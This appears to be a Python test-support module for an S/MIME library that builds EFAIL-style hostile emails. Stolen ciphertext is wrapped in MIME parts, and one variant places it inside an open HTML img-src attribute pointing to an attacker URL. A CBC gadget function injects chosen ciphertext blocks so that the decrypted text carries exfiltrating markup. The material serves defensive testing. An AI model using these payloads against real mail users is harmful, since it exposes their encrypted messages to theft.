"""Mails that contain a stolen encrypted text. Opening or answering them must not reveal it to the attacker (EFAIL)."""

from __future__ import annotations

import base64

from asn1crypto.cms import ContentInfo

from smime_core.blocking import run
from smime_core.cms.recipients.encrypting import Encrypting
from smime_core.message import encrypt_entity
from smime_core.providers.native import NativeProvider
from smime_core.x509.certificate import Certificate
from tests.support.extension.hostile_mails import SECRET
from tests.support.extension.mail_letters import html, mail, multipart, text

HARMLESS = "Are you coming on Thursday?"
REWRAPPED = "under another sender"
_BLOCK_BYTES = 16
_STOLEN = text(SECRET)


def reply_attacks(url: str, reader: Certificate) -> dict[str, bytes]:
    """The mails by their attack, all encrypted to one reader. Only `REWRAPPED` may show the stolen text."""
    encrypted = run(encrypt_entity(_STOLEN, Encrypting(recipients=[reader]), provider=NativeProvider()))
    inner = b"Content-Type: message/rfc822\r\n\r\n" + mail(encrypted)
    quotes = html(f'<p>{HARMLESS}</p><img src="{url}/direct/'), html('"><p>end</p>')
    return {
        "below harmless words": mail(multipart("mixed", text(HARMLESS), encrypted)),
        "above harmless words": mail(multipart("mixed", encrypted, text(HARMLESS))),
        "between the quotes of an attribute": mail(multipart("mixed", quotes[0], encrypted, quotes[1])),
        "as the other form of the words": mail(multipart("alternative", text(HARMLESS), encrypted)),
        "beside markup": mail(multipart("related", html(f"<p>{HARMLESS}</p>"), encrypted)),
        "in a message of its own": mail(multipart("mixed", text(HARMLESS), inner)),
        "behind other words of CBC": mail(
            _with_gadgets(encrypted, [b'">\r\n<img src="//', url[-_BLOCK_BYTES:].encode()])
        ),
        REWRAPPED: mail(encrypted),
    }


def _with_gadgets(encrypted: bytes, blocks: list[bytes]) -> bytes:
    """An encrypted entity with blocks chosen by the attacker before its text, each after a block of random bytes.

    The attacker knows the plaintext of the first block, as in every mail. CBC decrypts the blocks after the inserted
    ones unchanged, because each block depends only on the one before it.
    """
    head, _, body = encrypted.partition(b"\r\n\r\n")
    info = ContentInfo.load(base64.b64decode(body))
    content = info["content"]["encrypted_content_info"]
    octets, iv = content["encrypted_content"].native, content["content_encryption_algorithm"]["parameters"].native
    first, known = octets[:_BLOCK_BYTES], _STOLEN[:_BLOCK_BYTES]
    gadgets = [_xor(_xor(iv, known), block.ljust(_BLOCK_BYTES)[:_BLOCK_BYTES]) + first for block in blocks]
    content["encrypted_content"] = first + b"".join(gadgets) + octets[_BLOCK_BYTES:]
    return head + b"\r\n\r\n" + base64.encodebytes(info.dump(force=True)).replace(b"\n", b"\r\n")


def _xor(block: bytes, other: bytes) -> bytes:
    return bytes(left ^ right for left, right in zip(block, other, strict=True))
